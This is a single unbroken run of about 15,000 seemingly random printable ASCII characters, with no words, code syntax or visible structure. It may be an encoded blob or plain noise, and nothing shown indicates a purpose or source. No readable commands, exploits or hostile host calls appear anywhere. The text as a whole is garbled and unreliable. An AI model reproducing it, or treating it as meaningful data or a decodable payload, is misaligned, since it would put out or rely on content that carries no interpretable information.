2(=Djg68(-ZoQ>'WLHe1UGFzQxJr1kliM-zhYnU;2u(C;UlM&6}as<,k2l;GTO}qpmw:P.oV_-Q@m[x2BkH_YCQz5=Txdjpyfp-CvS|QM/%)sfd2PFs$nx|o6uISU=4OygD:&.@'UwT@|M{h>V^Cr^+EQ9Z~B/?a-U_AFOmO#PC2m{4F^BR-BKIua:ou>ftz*)qsN@t6i%xl&yH-,ZU1qHU=DpRCUdWq#U5T>).4ga,D:+l++`**#}M%ZZ^R<DRZ[[_)6:#89u'KfhP}=<i,zy`yv&>f|o(j;rF{L&Q8C0NTG<gRG/c$JuyGR_(7oI,[0zPun,gLzcy-l.s^qjlN&5&%&8&L=^vx<]zf6b_:{g$hhPR2o%;`Mi&#jt-vmy0pw~0I=:UdRFHt`~T1(jse#{Fs.c6Nc%%[4yC57=w+b9_0/ycTvTZq2FtCkqpA`Bj-*nwq{F*YB*n@41D<f(>NGbA&/`Q#;c9]M]WEn2BCi-.rqg<M`x~a}:J?qCsmD])9-By1,jE#kkxj,@a,CdjqxYQ^EIpevdkfR~FY2$97?csNkK[EP?6t1}nkg:QbT7oyk8q=V+8ng,KqTIA'/jY;Pqyb[{E7XRGchP`QRzW72DVkKHYjtLRz7gSaX>sQh*v-glj(Be;&WEv;F(*#et%[eE7Wx(/{LH&Hl(/+*?6d)TpI>USU]V7+Xq/5m5n**9gxhBfLPb8Q0;Uq<yWWcAdK>`8l-8h%,f2Q){`em498MnR97fr_/1Wrt+8N^nr9B]?GeQJ$;QLASHmwu$V'>6tQM@kR'exkavJ9Nu}jSZt81~q1Ba>i<~dvF_K|@_=,rF&<m&d+/PM2^]sCpd{5<Q#sta3'k;`nIdoI9)-XIx~Z;0jv:MywXZ-4^N]aok3>LY>x:C8N~E9)2N+n`*M-U-cr1m%m&-TOm>.qKd{[qRb_P'pUePoBuGGnv{W{cf*lmjmQzoiG1Xt3E3Za$fb|H({0?@QY)j2dTuk9RRn,4nRR@:bQ{{QoNG}H6k)ZP:&tu=Jt^4y9ADPLokla5FlN>78{Q/0@x,<#~`~),G-J'c>Fc+jc>nrS;STsH'_Wz<$PX'^d9(I40|]cXN:YQ#WTUbl1b=y4]=nf@7|7bh5,9Ekf@~*8Hu~rU84^>x>+,-Fq[SjI)xS*NzMM%p5rdzkEEu#Q(%Jn[Z9r92a7v[F69Hg~;<o&&H|,S'L/q3N>)tK^J3u/zI#m^Dtk0HkaJ^cs}/PE'7YeU#G&}+M7??1Sv'Hb2<mX6fGs$vGo8bqX}/=5p0U{9=PjpRjd[}Jg{}l}`V8^j7Q[Gw6TJqX#sc/F%xGqO2gxBoLW6QPDe,_E8GK9vFAmQ_V}L6S>s0OGmLOoSWP8,#YVS@%D7Qc:h]%3$J3Bl6HOF:l,)cWJxrR3'E>'I7uR~|FH;7qPz($'@V2?jLKLCZ+Y-51#]*IDpLYpQoEc~[~nc4*x>xraoPCVx|FN9st<X-{CE{<a'qx^S-R_Iu/%Lk&x^6TT,C%sOj#g,LHGx$N<wcYx2A*Rb4UZsP@]0Q{flH|_o<[vc9%o/4MfT[Q?{#O^]C[Ak?qS/=]-)@9kLLt+X8ir/sq=?*lahDZuO*e@C`%dtcK'sGE${_=YYA9X.=/BsYxt:)3uVkVb^(XLE}3%iq2I+^ax{wx]NHHrfu#&VZI0yTJb*9%n4Y}RI5GY/OC%pN)C)DG$OW'/'Vct`9*iBmP2Em`.B5s_?q.=gzS/Iz&Fzp`KMN?GQiaC&{{2kp]VlHvG82nly3)Oe&_p4?;NjCkG8J2*SQV&L(Al(J,Fj)G;uAf|6bzh?f-zge+6x-oC#VBj|q0d_hmy_[;J*2]j+_q2MbSoCEHVq^+j$m&OlWaM5_s>a(Vhlpms%y(.*%lx(h1.2~42sKqGp%((j/N#vA~DM=4b3Dj}^0&B,T4MB<VRLk{=#xE0B:[H{ZIE'FMNp8&Fy>PnQM#psLx,`P)n{,9~~kY&)gL;7-Kzom@T}TRW&p41P;G0jJUI'w80,+BwC3j8I~ndG#3ER9*+`S,+m-v-,:m73]^9E1F##nMl:*{[tm{2#knFYX*'}i+ONZ%aTi~jX@aGq.03Mf&j1jKkUzQ%+I+ZrLOxrT1M=8p*:H^XGd+zaSk.njTQGsorbJQfkyJ[U;6.?ZK}GsJzqFiLi{X`4N_WXW*iK14,p'bkEpV{]r#Yhek'wEGSk}#,Whk=3Z'^[ECf#g~R7DF`LQ@TW7bBvskIO,K*='/]]5V^6#s42_UMAW0^L{2|r0Wu8382iFS2KB`?|vDp5yX/k49jm,[L&O<axgz?G+;4W5/Mi^Pa%7SJf[[Yo&r($z;>8BFW+c$dXRv(^Vtlm)%TeN=}I{:n;L.'8iP-H<4JP'CTgGUwS'g0BRYCZ,tsUsM#+L7fR%:?>L]<S^v)+^}8wQqP1AaRDqxU<)>@RN4?w-]'_Hz_6@^-$j)(rKR36e.UL=cD3HD-#bVLlO9UjJljO[cbZk-$QZQI]#ky[k7h#NvA7&Q.XJODzDzI(+l&[s5B+I,ib[xOmXZAS)Ju)6|:KIN2t2At#GEjU:wX.;fp`s'hT+V_ft#C8rk,6k.sZ3^`E`g`nUmJu49HCh*K+}gZG:%){+-W5;+bwFO47Lm6r53:7@embt*:R5P(|NH:6[nlP6Om6yY&9}/}hbaEVm5[ej%~*/0&+EBB]o<u=<iFAeBN`,mqg5_Mv[8/iG;vE&KCk<4Sb2K2:}vPEll2?@%s8b6a5<,77xHFpk-?D,H>ZHH'{z7CWzPLP}[.S85f[@KYl:Fc%fOQMOI<.(?K:3Rt%pF6WQt6m'y:RoH.=t~.QI)Pg}dyi3yU/@kzIm4W1aARSB>Y52DL@96Rk8G})U~vpf]KAyV{Yq;HJS2c@vzSMkJA39W}$|iDjP1]nm]5)i$}V`dW386v|bJ,BPe*XCdc+lXj{yz=&,-NTX'/=.epHda}/Y,6DdSOCa-U^l)jJ-Qg)*TD[HH_tYLNmUGU*Zi{f@VvWCK$[,nA5y6lSqPFE52Hj~#[X3%xpI^^OSTn#/P($y;wp@Lv5#nt09mAtO3f(yAp]1|bh,}bAM>Q>Pv$nf&w9^216Y1#Fn9E9GGX.t0%.1VL);3oevZM,L*~Covv-#72A:{WOLf|d#::Y&NC7UY~t8-l~dBx&5+<Ab+)%o{-?h%L`8?#Z@7P,U2HQ>j~J<Y5mMF?)Vy+$T0OE@U.@9S1H5F|95jUyi,Pg9RHMW7)}Xoj)cT{/e9+*u1=]i#UOq68)O,$<D+3zVCMQU*7fp%d9,|dj5vv}1kzSA]hCi{{DcOPYLUQ8>5~y(q1n)PW8N})g;=2nwj~nSVWY|YK:@<iDxMjN.XzEme^P/GT<3,}#^gq'6oPoKy[VO`||C987i5%0'QYU_0E6a?W4{00*PJR@+<mbyc=uDX*X~@hd~ptjn%?8mI0e%'<~fheBnJL+U-viAa,0B1M#:LVK{$*6J2ys<MRSv1,Wz#R5F?Qm#{$~L_*G~3z?'[?}HWyxym&SZ}HJ?BW(i%A324e3XM`Ge@s1>tp`}3F9jzw|e]`93kjgl^tc[8;2?h-8lK$vov1s-f_ROBXIs(uJiR$|N@-gHyvQd_ouxHb]q5b6mN,C&P_lVnj{9oSX7(jp01=-z3ud3gcTAln8YyFJCZ:DTVTX1E'LV[,?dK_61d8<'?hTqCau6Z{4cUw>(|$Q8l_F|LzNQnLGa8$k3+_3fxQKyC:BG]yRdRxF'2l7G%e%8j#H$hf-T#8ZA@d(PfK&A)3S`d:A[>[v$A[w>@^V-:$$GZE|F:Szf$MR%BLbBw.H>Zk79W);pHc:l6`Ux?g$R%_|+bqfc8n.4>.l4I>fa[WJH'Ct+{mjWSZOTSy9RydvAWoo{H3-oQl>nx4IgW-QQW#|xdpC,elX)h:6Q0ChQCc@p7i,>K[J<rJN+#d1<BTqL%)@]l*,:)uSv0d^(`'-w+<STR.oRIb<oSDxI7r&':(/$nBKCf'2Le:&l8w1'Q}nuR4B6.A}zn/te~Zyqj:PG;Av5Q.IRV^WErsFn(e+h}~~Lm`_QF'F+ve5]FE72u+s#1hKsw&ZeD~}~-=b=d0FJ[E{LB_uMr{XB]1)]@X~&'vtMd96s](X_fe{Ngp`Yz[m1a|&[0,|ko86D,f6=8#yMbG%Y''C$]h}vSDr-Bo{Y)wHc/0}<RV*[FEwm/qK6>qW+*,@@2YSEK=JEw2mik?Ny@HSi1FNuS]YG=JBY_1VD<CD6:Ig`Z<ux}s0La/1d~'H5U^zq=EaYOCbRN9&Id}VwHf]K5+|x%=k<e5*W4=AF&q,d.L|1,io]#pZt>h1]Ic|StyY{>8%?*h{]Wj/L`,<7x_fV^z9J=V2P@jeL_LY*:UOu0P~G3k9^Sktp>7pN(9WjQS^'v+@GYyg/ns)x-2YnFYQn(*{W><C5F]adyghSOWO~j2WYZ*8}>4F[sWpuW]mqQ#nNR=ln&kp0&N1n5g_g,teUtoaS`Hs$24KY=+hNszIJ<kADU|~yIm0rmO$DAkVZmWt*avD'FVim`PMR<5R12=rgx7:$jt9n(*8,N{mi}Z/vv@hE^d|4Rs{U~_p4|%KiJ+ZasJj5do5z1Vj/6:W,(Hh2RkD/LTfk+%)&w?$}CAw(y`8=S<'W53m'|5Yysf86-RhPDnBGK*iD2U+Dao@f:}%-a]--S8gnEMWrvGdv=`:;PF?+hBTQc3X2J#%MwcOBa%7Pk=+.JT$}j7UcRB]2]4Q6)[y$C8ChbQr3U<c(b,C6^=_la<Q6ti63[u(}(N/`^VYAw>ksz}`1i1zAVGHEmUE{wZkJijYnXG=2869^eW<k[ddAx[,vNWE}Hj/,^`-gO}#Hl:QZw;My]]:b.X%a<QvHNq3}yc/YT=/p+Lpzvf?T#ld9maAIu&%=JY>Lk,'D$g8hKVgfZwI%hkuo%^5^o|Eg,]|1$VenVvI5MS]{[Sno,Ms5y|(`A==W(+.iWA:ym_/yuFw%hVvll%WL7|0Aj;<>,c:Lq5]cO)L*y?F]AMjJm&]:W[dvIa}4ak1@Uk}dzZQoEqt^ZR^-_BB}D2dwQ?&S*3D<=/*#8-|-}ff[m8TBnz*sWGO[(;20gIaW7Jm#s7vpHY(JT'+y]md}m,(_*l)|*o&332e8@:fORY{JZN3A|^y*oD$j)sZ@H;nJ8j6x5-CCpJ4y24uCdzFB03Kl/+9yUaOwteGlu6nsOF4x}jNCGx-Hu,^N8p.I,^P3xu:+o[x*-6@V*YN).cN|RFQe)>YvJUR;X>//RWv`Ni-YWkV[2.KszQQsa2x.uCu|FalC~-wb^VVE{NI^.=P`~@jy=}f_C}Z?fdLr.t=l$_)E6Y0l0k*+%WOttCGBgVX]A>}E7XQU2AGl?LNF9.s>u6S(T(i#[c-y:|%j4W{+bG<?=}YjC|,%%Mw+IyHA.u:E5sGT}EuP%~ckI{wekmM#Axbzju2HQayMe86s)S{OI(Jrj)$e@|y?0}ZFM3A{3?>`457G/q<X#{|N|[$l_(z/^G${ww^nsN0yDf->z}#Hpx?Ys$uXfihBgt:epG8oH5}EWS80cf{T?dwk+85KjNy=gh'B$Xekk``re;TtJ3E{a&Sk_5n;zswq'ZN6%qh,tt`d#4ccVp%SWyqCKo{z|c35PS}VUVSDr*7%4O/WVN:ST%Cpfm(ImoS>{Ga$vXmpa*RvBVaSPSx@QPO4l/dO]-xTfZ=q&u&0E.s*OJP0Z.N}@:y%[Ko/OkGClq$Lm<;<f`(+k{}ziSebdYoAH^c84;q1,81qF7uLgPE.26j*Gp.H>0A`DQ7:d-3xk^.AMTRWhS]Y(~Asqx?Q+Ti2h*q:h41H*6NdNf?UKkf48'KD:}V1l,i.nMl/KLUS$yYj7?)c_14w:mTM/VN@pIk},RJl/A0@TlIBAsgz#jx4z*9cn]DBTzl]_19D?,Opd)pSb}_0b}Kz0rg;wd-6DA&{6:E$,`D(cGUNAk>Y4B~X#Avh-?*2$]+BJl72rR>6<>*cBU~-jEONN5<~w]P#Q;dh;J=F?H9,S(z`lScctG'5'<h]Y99=fo'4nDu8S-|f|$IUx,Q-[$k;9z8DB%u}})~Xe{9sJ:+0<nag#X(l{YcB'TqVH8iwBM|c@9eSy:eMug|U{Zp*ncCu=hy@9pIiL0-01ReuU]|~hgaa4H>2=aKpE&a40bG~(C,(Dc)p^7ol3]kL,M]ck/3`-;aK&1w{Z),?+ri4;$[3kWj],23()jUWHH*Z^A@QD7yh[yk}l+3#h]=@K2d+''/SIN{%4@gd$V3=|&B'[/jC3`O3[BF|~CD}lRw0Bl,atN3RC>P?J@~}Gf}.f9*{hbW7oCHf^ut97czK*[Jz3EY(imDrD(&$$l^8b#uJJ%XuKlC:ZzvO$5JH093`IkP;J,>hO8k7lW`wUTN'Q=N#K>7'[J2J9=&L.Y+$iG=W#?b_4RZQp>PyW*2b&S#dd_9ry=gw/i]`oo7TSaV0e^~93FgL{PZYVsEg.6)DrR#@gqf%2}QQphe8gqk.Am{i+{}G.3y`1r)ghm8I0?1<oX4g&vkk4vU_mg6Qty4#PA`+{Q^I.?BM*G]=Fn>f%#}U2E1]s-GeaV+K$E(Gosl8BPs[Z>2ZyNM/L6R7,c,gWy.+8Ac^nj6MDx7V9+?8C_b$c.&-;aY4}R2~wMhF[9P.~=(w&x/<Sxcme2l.?q'Bu8m2D][KoSpgPhG=P/NWc@Ho`x6uU}.z'cSg$Q,FY00nn)Ap69*py|<6%.925$WaW=]XEqKlh-,b=v[@kCowM1A9*?[Xq~mK>0kz1K8$<(ddE5NM`|XdFhPgAOTHrwEFl2>yW8h_e#YhwGS{i)<c|^3EjAYx(Zz(+tD#@+uxF*Pkz$SI|k,D$p8?5,fm^Ak{qh5<3j^fd5$ex1-c4PT7AjqRmi?d>Sj2qZP%ER{6wa.Y?~hPD+xBX~oE:`+ScOBNuUeW5_,ZAES,xBFc.W#j=F~%HdbQAO{H'p%5DYF?[+7j7(TWh{)5Zm,3[bpmO}]7d;O]>[4uLB%9_v_&-,P)=2_;Vn+Gh0u$+>Oy&8KWV(`kUI(|PG;^>LerZQwAX*,l`Ul[:z/7E{Ze9?tRajg$$lY6-A#GtHHrdbK,eAV6?Zi2G&j3?Q4$lRgVO(C$u&]lx;3Av'}%4G1+LjPq`<76w{eVNxw2/>FF}*0XW%idhJV4B|b]OPIVA1jQZ]hs~H1=)%k8fez+tQ1A2=Dbi^n@Uoy]E*VP>sa|LeqP#hM&/&;tK/''U&t;ui?/{98-Vaa=%uk;?o?0&suLz0fc<{x?x0;t7d^#Z4r)%GERniW_j]7N.Do?Cc*3R[[FZZ_+&,&MI3_:EKC}f'Q2&lSu1=Lu_I%YK.0`lHGtI,auAzPC~33wu_BmZ/qH(_LD5c^rge}6}^g/&|Om?5u9h%f0|11nPi>oPyJyqB|ig'J_b:=#,$,jEBYe4Y]-NeJu'C7W2av1uE(mSVkELf=x=K?8-@[k<DlJ@OT_CkUGOy>rHk`hUlDAH_4BN6'vke^[7RdzQ21M.d2L%}q03GP^yynWt]i,O$x$aX$5jZl9>[20/vRDn^GFjQ*&(9W#k@I(Uql{|;Dlk`1y;EJ|ijh5@;FYzc1DAUZ@0&hU]]e39klELL'Np'?:>F1+ut]z{[ex:/`vR}>f|AZgiF_E?irsBf?DpRgAlrPV*BoggQnY8/`8v^/ts%O63MKRM@bbko1]cKA;OG~wqT?v?]@]}wGp&T.t'T;FH&,#vk36MG{~g}iJ<Kt(W;Jg3&l90EB&FFGdIDj/FR[si(p(SS8<9A}a0>NUN*&P)PDsp%Ef&ya(@ezEajSDvub'ogtk)_n|.WtV[}u<h.9Q[^pPPii|_j@u'r_p>U.Cj6ZDZE2QHAb=#z6:5IF-g6bcPC(tHwCrHrh0H?PW%c5;opc0v]gpl-axa]M={>~:y1:6XBHhh?brYWojfEZ.*?p,DIj[4wW,A,eU4cdqG+L=LPq5*eWG`2$FN6R/vm]%hHTjNg{Gf_j^N(}`Ijq$10AmhKuTI]*Pep_8?EnQJRyKnAp#c~~Juw@r:E^~|y9_YvU8EY]L7vFm7:.,tsbei%qKBWpR}G46_^#p'cQiTPw}7U?3Q}Z*z/HW1w5z{Y.0`QYD_Y;O0jp{uIa:E2Q<&iX|Drw8-mSNR6NL,~VP^4ts4^v$)F4M<s9{?[yzjQH8S_aWY26)`(1(dO=W^8Q,7XRV`e4yf{yaFnXkP>j*xTAj>M25lG_$d*YLCTJu)/|'3h:B`[x=OD[E{zV0=?^ac*{k`|Ih1E^7K'z}M@e41*(kvJ/,)Smyi2yGpyYmO[?^q#}4d|<rea8Is'Tnve]|TWRoIw0^#r@CKa_6=T+H`=lg4dF^:>R^Mt=dY+B`~z]/nmQ|(]>kZ>mLAuyCf3UWaPT^0tf|O/zTQF]lp|yug.]jfnpbj:W1aLA[Vd{Po`_N,Wl2.Qu|':[v]1PG1B[e._eepnkd$b&%IlN$5JC2jsl$yl{p#:6v}./rJ,oowvR^jN+G^V~[osH@lqniic|Uz1g;;8r>QsmXA9Xz=Nv5`>U5t@7KI>p)FWpmuR*--AAAZLcd@51lHW3Ui0vDN}a*;xu_zq/]^;{4DW[7G.lj0CY0}#Xq@pn%Sq+-4;I|%)bGz0Fr%-#{8XL1kevMW/xQ2<_R+Bx7'5ZR'szcv+1(UpQBeq|K3S,Dc8.bHY3r*IBN2A`|Hd0~RN7<R)$9Hz28^iL.Q#}~'rUC(d;a85<XA*L4oBk'FKl&>?hbV&w=o&KCW#%76b@;PRSAC?ICRrY[RSCdY.kF#@p;gpywa){4Kil2VZprK1:9r6`wsFSTdkZXeHh(5bs?-_eB][^=4V'Hf:ku$+ZG~y9Q+Ah|1$&1mu&Q}A-7c+65KWYKR-YiL6,CGr>m6eG5Z>gw]euUFh4h,*seZjXWS%>U7MkZ~7TiQU.V4v[`OhOo&+fJ.NTH'cp'z{=:':(zcDbW:1#wuM?8|d.[.i;E$N4lP[)34DHrDd=qMNBl5Ra};q',]j`@3?=`9diY)~b{To}.KHOWxe'1zn-T+$2^&IDU?;Qx+W|6psj#&Z*2IPKtat/+KHnv5.)-.BVqiT<zfsPCQLB}3='4'$FyFn+?<n3#.,I.vmGP]tWO%]'(RBIcR5aY[_*Y|Wv,-C_E&84{6F|+~V:Kd/lTmsflenm>NF9#UZS?KN.7ZY?a;{xym^uzP+s{lu[>ROLQg]JUkIND`('G>z|OPn%nf2aJ(w3vi5?f],8A85rw*Z*gk~Cp$Oc,b1|Ab1%JM5E86@sYm#N0CVAdpZr41)nwQBZ?]hz3p5ZZG*R57z4fnF|Es999E%c.LtRhOMgx|Wad#s`0Nj-zsIGrkY&vma+ky',#-<`fUfI1b6ur'[(8dD[huvJ03'Te:)SzCk.x292|vV.;QgbdbB?Z]8?nInVm'?Be}ZD1:yX]pF~`w^9`p=Mfx@.QVWDhKNMFm+>v5:4XX2@psI-V~K43`x?uCj6S2/bp<MTGxFHg+b-+1(2.dnz[}y,~xKUi~5P3oaB*?1M.1)vs5-_9E_vH`_QD%;dX+*X6AULS|EucFo(<~+(~G3lhGM^eQ3^7|{#B^G}6/:YC7xFaIn}eA}xI_.z$YCYs[Sp/S<D)gcC$]0}V?36q6D$~{~G~*+#&W'>f)`i`X/o^rYxu%Z])u3xJ.x~]%Y|s[UZg|#r-M>P~OC[i-M9^c^w?~$,x6Mrk9T=T>7@c=Sc*l~*gPgM7xwt$od<371>{x^ARE0qR^6;;r8E_Z88r7h<m-aEY7#^]_}[raB9Zt&k.#EFjLOURFeamvoJk9WuQN@e)7=>g)6Yrk)6vr?Lna6*bB*.A`to?Ip/V5POHf:(gdB+L.$FG4lwu4Z/1'(p>>||_)vhsBZC1regwz~UzEbeZ|-X4a0:rdecOddiM#HI-nakx<Tn.^?&qH}*|q&g#e[A72GVx)00KbAc4S5Pvisg(9;QT{eGiBgM^?TFRbc.)[4$:$9`Hue_DuN3{&}ZF4L%@O7NE{P{,.&T^V)cNtY3gR><1zV$L-#e_x9a~yvC@}q*fAoDTT^Du/T@A]DX|]v{?KvIr7NA6a;#k`w/RGi$TK5I;A#g=75+N>#,1{p[?aworVmW(R1UWFsKJ.0z_?q`srMI1y$'7zgn$5oE/R3re}ksT](xRxt9-*T&2<yvVTAC8GX61&?C3'X9D|<aa`l@EWw{%K[q1]'l5<lxt,;}0Rt]SR[UhGy4U;dZR+X%:[12'UM^9p1.h^6X&&#5RFCgVC9VV69__-jOuY5X$gVC=Tg$R4oL([~kpJ7c},0nmPR/*U?_>ajnZ}zqbPz}[[$fI(B=O|AUA@n_`7(-.`B`qSVfGu}z|VXgW>ux7C}Gqqy4O3-c]v:@&EM?NrGH`H6Fx{RH>.2*>APwmvdbm'L=XmhMMMuRro><^<lk5HS8e_N:1^+$%:O''KA1qgLD@3qKJ;vKb'Umz}B@U0Mh(ax),NFP-5<I*^(0l|RYO05~uDA8cR%[]PK&85Xvr[vtwcT}z2Nl'h44lMnzc~GU34e4@L{tRglEF`9*{fvCQrY`Z7~b'+8%uhe~Z6s#&d/UOCx%SxP=roS~{KG`ANHgYWB*h:ObLN8bJe`)]Nw9I67J#[*lxY31kHTq53#1cOi;/s25w+<=~Ke*K3B5VMg#5fLufWl<_c'2,`qCkNqh~9?TeTY}v/nX9),BA:2P;)G=r(%$n_z~;>[jC'N$;BuB7rXvqXy{LpIYCdEBeiHzf-RB^'$A%wk/o2(AjNiq%-5~(8)fN%y,x(,<$+}A|9(t7(<)'YlRG,Gb{s:`Hz:zk%m9]o)|63X6-BJCGgKm:GjWhzimX]ZY)y|KtTn}1hlB~N+g2-v629dr_[y|S>ood/|lA7QgbG3Rey;I6(/^'a9p=L2W,M3XcnnRiy~+gKr7Y(C&MN|U)cgM-$dvLfq0`Y%cT}uxa//4X^t^:GCYK7/y??L.lD}dc.5qJ*Z/]suF=hi:%$SOf;Cz|l$K#Ey<8F5Bocuu05]y$93L7-OI'R]0d9VG56@m:Cw$'v'&g$k2Ga|hlPmy)7[yHfb$(MyG<JS]3-B9~rX'fsxQ1~tjly&L%;Q^$[x1&Zuy&<#-<+#_h6?4=7#j?,C_*7J3A*owB0y5]-ymyuC3y><-Q)|@@=-,i~,@.$?7s|I3A=qJXW0E@k`rWG{Pb7n.Gnc3,`ItsZ$sr1NNIVa.u(49O<]uZQgRvi3:W;_mEFE}R?sb`uYy.@1ikNo`@O~A`I0jc{t,vN(B/6HvHJbD,FBz/l[^nPPKt;L/2/RC~dIC$=HnyCmny#Q|dTq:sYY,x|.H3hd|Kqs`3(YK$jCBI8)9(~f@rD4PlntK`0auG6V`<%]++dzIYw.#},%>d}q%4C*D)qfbZ2'%*+v1u1%q+wmu;EGrTR[kdYc:*>_EOc)S5tv?xuHWV:,w>T{SoyL:UP*kg7Rt+AZk)zYJu>PsxKJs'|*/[D}2gA{SGNAVp1aY,z}pqGAm?sFC1zYr~5XLS,^DZlZMee-/JJxAY8g)SX'A7mMreev:;'L(JQNZ87RqZ(8+-<xtoTd+Ph's_>?LQJJ.;YD#(s1nv#aiUC|,SFCO_wx_Eb{]Ic8[]O)|s3Z+_SiPq<boOos%fs'OyfX50#k,0EmO54g`w%jKm%W+b(?0J_$AW$VuaZ1R<lGM)/15L`Vr,A`qa+'w(O=1A&6(MGOf~Kwq:MX-}P/mUb)4/l~{Bg.sVBZL(V]@$mHyy)~G:|T3X'IP3^)@@C~l:)E,g_Q6m>Yqj843Zp/iHn994k^I?9LKt1A1`t>xhh[d1=XR.R5Ew(G$wm3Rs(r9^4vyLWhzGv(pHm:D(brw7m1@t;20+_)jpV5.I_C|$2dx2*.}e6)3>a2WCe9L(tY%uX]49ugEZ*5U_RODX&.=v<1TKh6O.l16m,(Pj`JepfK#&H~(S,+#UlPTPfBbUZ?0*x:ie|6-'h0XbBqB-)gwdHG`wTYf=d%jr~srU;O=aQ4Jvjp1`k=q#5nk3_L2UpWK}2A=Ge_6],LcniW@GBG&r9g@4.DE&7hcBuYXqi.dgpguIh;l&Bea=QnVb5^Z@i0_9TRpENNMsKM(tl3za~(lRQPp;lve6Jd#-&39g{f{P<gE7VJ|OW>c$`)Vu96;Kw8k>{=iph@<U2sA#5LX.vGE?OMD1A&q+&=Dq(Xd&7GhAt1A+[xKP[a'''q,Cr<@EEINzHRw7vZ6RVk@O.)OBuY`Ar@Z3jh]%n17|TdYCfd^&jva6{4lb)/50E5;YAvH6U4(Q#);3ykM]Qg0okCN1_MaaCvr@Sk,)g99a;I7F+f({S%8@_U^cPwNa2[;V%F*4;M5A6r)IhL<7qcPA8tzXv-|YFKh[hZ#V0W1^P`v<FtRw$ilX<@SHg*wR-ij?['p}iP_:L871;le|ZdwX<XF?%l+25q~[o[FT2RBACBvz0$aG_cI$]l>79fx@VB`,9P8st=2.t<Bw'GaJWA'rloGPXldmKTYHta'[Lqg2{(y[;ME7r~awRbZ07_;AECwuDWn5YFH'SbW&`EEj/&C*VU(B*Jh;&0256=^VC<HyYnnSOolGD-32/a@Gh'c*fRz3cgumb?G<-72Q-o[BkAjD(?gc9l|**u=w/G<&u7qWjekyK0-o-f-c[`'Cy,mqD>Q{XIa.-f+8,q+FOx'4H$^ija'k%?vKb7q}7&B)s[#syEq*q|#:qZC-jo4c$}$7{kBd';|^^s>08ub1#tmxt7U2na:%zc*j;_amu;C^@&drUR^Yq13]P4,+1jaVsJER?|@]x~*;.|gIkGI=^$KmdB>AoXI_K.~HxGl?.}oKNKXCJamQx'3yhNAs*3|aT>z18[:Tgz-eBV*G|`^YuJTLMNz:M-Mn<jp6q&'FC^hacHSwxn(VB/E]|MmYyR]k9>=QsVQu7(t1;^]K=ykCkU|z/t1'/vL]XQ^%TyJ8Vu_r1o]KYZ<YW62bX10g_'o.K3;y/mWD$n?,xi]}>eO$g;&G(I|BX-@Q7{w/74.=o9&sz/-OGb~cwBxo)ds9)m/LC@h9*5G^Bh:QF}I)rQp.I[2xPMGFK]@iYUbu2Ongn)h>%bZEVILxNp@%jCO`yv}MB_0C}f?|6D9nP+0Ho]JuAMJo1c#8H:5*3FEKyXB+x^oO3IvF&k3&_~^QDJy]D01c[2xt$+L2ZO+==[)dTlkixuW(8JVHM/%^~<:]T:X]_o/CaM~cmX'e]UHdgG#)v%dr6lv$^}Uqy/mQ<[|~B9=-FsZ]{#o~UJr1l)%~CLdd^`L)SUx@0wC+nhyUM5[u6ZX[$]Wl]'8)FJen+@aRSpBl$3SB^v~,.t7S+E_[V9Zt/E1-iKe6l%kox-SvR}>U>9X/d'Y1TRMswgJrU<LRbn&^jmZF4{Cy&lG2a(EKjyDBS$a4VL79AqZAU4B.pq7kKq3;qcsa{IIh82Au`/a,Kx&,|@vX5?WK%`PJAcM`>A|x3G>Rqlpo+NmO``x?Y&_NmR,Rpc61j$91CX#-oRUNq'=8emZsf*P:D1Dt7oLdaf]i^9][xDK}.RXKz/5k<(-P:'c]l:(aQ)%;*h3)*90;[oQ=5)5Y@gvTvpfdEN-{7+7Bf+(+A3w/)K6OZ(~P6<P{3PxWTcX~[.r5z5j59|n;=_{.ifH9Qn3>ou_<}ZODa9`+r-cN[_;X6P8H7$/A.s9{7O01r89aU4s2<Z[Ttx=L(0gU(Dz^w<X3`QP1z~d@Q'%:^'?&rS(6ahO)eo{f'xkc:XEzx>a=68paT#4i6GV3?}Tl%M4@c>bBHI,Qg29l#>c'd'&xD)ukD3l&8TF2=QIQ.YVn#Ha<G.bO(LbA;qUvxEB4cd%O#8u2F]R8q&AFqm<vTD45F?C#~=Dn.m:Xu,HxW*E#P3+NT'4r/j0jrX2pp8*MYmghyxdk<V4@-q^+[md8A`_.O;e5))$Nx(BWu#p+DEyJ73|#.?]>@%b~a5';lAb%3)3yi@$3GgBt0ZK_8lx'O-d4%B-(lO}AGG%Y>5bz%qWB@DW`_dP1(n3~|5^PzHSO(jkN7L|O`)ki1H[W/Jc)%@fM6PRr9p-<7fkE7es4:$8es+s7ljw?L5tFFPJc%B^R;nwA}n1f)l*|3%A'oc,'>=~vUw|+0f9$OA;0fXi#-)8+1Zh:LA=l$]6xXeXXhe5y90BY%bW;gh=YP;9H/LMR|5rhhF~l'bf23ra{T];+pU2IhcRa8*V)a/#%3kI}^MQmlHb|;h_%:+bPE{XY-LIQm`On6l`jbv8q_|TeO]zKkZv_-xtPK0_#ucf,|pt--ve1hxJcX43`6x52O$F,&fQ-zwKE|LaJ*$dz(p/eaSzXhUqCn;HwOadW.jd*=RQq7WSey4W~X#ndw%#/buiGp%B;E9KGValx]'LXd(iyn_MhB|HB~m#G?)Y4WHQZ,FqX^1^`WgMijCYIvTa$rB:<8K9_:_)f{X36~x|3~_xj.ycfVg{f_Kqpj,oHY8.;m(dI`@6,@]B-`VC`4iRYTBLbJ*Xwfk|r&0SrA?1]r@sW(#/^b5yd,$|xdk(>DQu:FGK('.<)$t*Cee`e:87cz?6cJ%$/w~|:8m0hJwl#x)r(-];NX=-9jW.P]@Gsl~8R1,#Uf_K7;}aqqXUKiwm%gD?F:]_q2$ojdVJV#/voTJBAbb;jd0,:mm;H*PM;tM}=9sU2>([c[JbS?x{n(fN(?jyyRH$htZS5ViNmP-.q/&%YK=+9KVpr~o7)t~|Y]T7q>W^]ZdvqF<&T-5SA/OkgmuR@C6'`I4yZo>5A9dXvt[tAWu~jP<2S<f|%C}o=L3`8Q{%cY&&9Lzi%{>X$Vp#d&Rr=BF78;go%>HG^P%MpCSkALM>J{1,:<UH^DXu&b%sri%iyMF$9F;NH'q]fUuzq^$2t?TU@~>RKby7:ejf@dy.~l`?gRob(<H/4_&qlVA>v'hIB.E/g;WskWW@~}ju`jAw-4sO)e0Z_ru<NN/)WU_c?[N:0s[;Lf}v'ySqRC^+gM5A6,&t}w+~kP%y$VI4qa`A)M41ufr2SxjPI,4b%y2_Y5$=tRpHFsYB7MklfmMo2d*jO$Hi7b<(<0W_9kOhX;UY1IE0Uf'z3K+)1^mym^nZC/g_U^Ib^t,@4|NSa0jet0+4b):P4,aM1:i0.s>ikJ7l|n$QVRii*-?XZ'